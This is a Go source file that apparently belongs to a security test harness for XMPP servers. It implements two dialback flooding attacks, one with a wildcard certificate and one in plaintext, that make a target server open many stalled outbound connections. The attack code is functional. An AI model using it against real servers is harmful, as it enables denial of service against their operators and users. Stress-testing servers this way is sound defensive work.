// SPDX-License-Identifier: Apache-2.0

package hostile

import (
	"context"
	"fmt"
	"io"
	"strings"
	"time"
)

// namesToVerify is how many names an attack by dialback has verified.
const namesToVerify = 1400

// WildcardDialback opens streams with a wildcard certificate of a trusted CA and has the server verify names below it by
// dialback (XEP-0220), for each of which the server opens a stream to a server that says nothing.
func WildcardDialback(streams int) Attack {
	return Attack{
		Name: fmt.Sprintf("dialback of names below a wildcard, %d streams", streams), Limit: 40 * time.Second,
		Do: func(ctx context.Context, target Target) error {
			const domain = "evil.example"
			certificate := target.Issue(domain, "*."+domain)
			return dialback(ctx, target, domain, streams, func(s *stream) error {
				return s.starttls(ctx, serverHeader(domain, target.Domain), &certificate)
			})
		},
	}
}

// PlainDialback does so without a certificate, with sub-domains of a partner whose policy allows dialback without TLS.
func PlainDialback(streams int) Attack {
	return Attack{
		Name: fmt.Sprintf("plaintext dialback of sub-domains, %d streams", streams), Limit: 40 * time.Second,
		Do: func(ctx context.Context, target Target) error {
			return dialback(ctx, target, target.LaxPeer, streams, func(s *stream) error {
				return s.exchange(serverHeader(target.LaxPeer, target.Domain), "</stream:features>")
			})
		},
	}
}

func dialback(ctx context.Context, target Target, domain string, count int, open func(*stream) error) error {
	nowhere, err := silent(ctx)
	if err != nil {
		return err
	}
	target.Names.Point(domain, nowhere)
	var streams []*stream
	for range count {
		s, err := dial(ctx, target.S2S, "")
		if err != nil {
			return err
		}
		defer func() { _ = s.Close() }()
		if err := open(s); err != nil {
			return fmt.Errorf("opening a stream for dialback: %w", err)
		}
		go func() { _, _ = io.Copy(io.Discard, s.Conn) }()
		streams = append(streams, s)
	}
	const batch = 20
	for n := 0; n < namesToVerify && ctx.Err() == nil; n += batch * count {
		open := 0
		for i, s := range streams {
			var b strings.Builder
			for j := range batch {
				fmt.Fprintf(&b, "<db:result from='n%d.%s' to='%s'>key</db:result>", n+i*batch+j, domain, target.Domain)
			}
			if s.send("%s", b.String()) == nil {
				open++
			}
		}
		if open == 0 {
			break // the server has had enough
		}
	}
	<-until(ctx, 5*time.Second) // for what has been asked for to take effect
	return nil
}

// until returns a channel that is closed after the given time, or when ctx is done.
func until(ctx context.Context, pause time.Duration) <-chan struct{} {
	ctx, cancel := context.WithTimeout(ctx, pause)
	context.AfterFunc(ctx, cancel)
	return ctx.Done()
}
